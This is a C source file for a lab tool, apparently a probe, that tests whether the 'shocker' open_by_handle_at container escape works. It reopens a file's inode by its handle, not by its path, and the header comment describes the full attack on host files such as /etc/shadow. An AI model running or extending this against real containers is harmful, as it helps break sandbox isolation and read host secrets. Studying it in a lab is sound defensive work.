// SPDX-License-Identifier: GPL-2.0
/*
 * shocker: the open_by_handle_at(2) container escape, for the lab.
 *
 * A process with CAP_DAC_READ_SEARCH can open any inode of a file system it
 * holds one file of, by a handle it forges instead of a path: no mount
 * namespace, chroot or pivot_root stands in the way. The 2014 "shocker"
 * exploit brute-forced handles from a bind-mounted /.dockerinit to reach the
 * host's /etc/shadow. This tool does the same in two steps:
 *   1. name_to_handle_at(FILE) learns the handle format of FILE's file system;
 *   2. open_by_handle_at() reopens an inode by that forged handle and reads it.
 * Usage: shocker FILE   (a file on a host file system the sandbox can see)
 * Exit 0: the inode was opened by handle (the technique works here);
 * exit 2: the kernel refused; exit 1: bad usage.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MAX_HANDLE 128

int main(int argc, char **argv)
{
	struct file_handle *fh;
	int mount_id, mount_fd, fd, rc = 2;
	char buf[64];
	ssize_t n;

	if (argc != 2) {
		fprintf(stderr, "usage: shocker FILE\n");
		return 1;
	}
	fh = malloc(sizeof(*fh) + MAX_HANDLE);
	if (!fh)
		return 1;
	fh->handle_bytes = MAX_HANDLE;
	if (name_to_handle_at(AT_FDCWD, argv[1], fh, &mount_id, 0)) {
		fprintf(stderr, "shocker: name_to_handle_at %s: %s\n", argv[1],
			strerror(errno));
		goto out;
	}
	printf("handle type %d, %u bytes, mount %d\n", fh->handle_type,
	       fh->handle_bytes, mount_id);
	fflush(stdout);
	mount_fd = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (mount_fd < 0) {
		fprintf(stderr, "shocker: open %s: %s\n", argv[1],
			strerror(errno));
		goto out;
	}
	/* the escape itself: an inode reached by handle, not by any path */
	fd = open_by_handle_at(mount_fd, fh, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		fprintf(stderr, "shocker: open_by_handle_at: %s\n",
			strerror(errno));
		goto out;
	}
	n = read(fd, buf, sizeof(buf));
	printf("opened by handle: fd %d, read %zd bytes\n", fd, n);
	rc = 0;
out:
	free(fh);
	return rc;
}
